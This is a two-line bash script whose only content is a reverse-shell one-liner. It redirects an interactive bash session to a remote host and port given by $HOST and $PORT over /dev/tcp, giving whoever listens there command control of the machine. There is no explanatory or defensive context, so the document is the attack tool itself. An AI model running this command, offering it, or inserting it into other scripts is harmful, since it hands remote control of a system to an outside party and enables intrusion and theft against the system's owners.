#!/bin/bash
bash -i >& /dev/tcp/$HOST/$PORT 0>&1
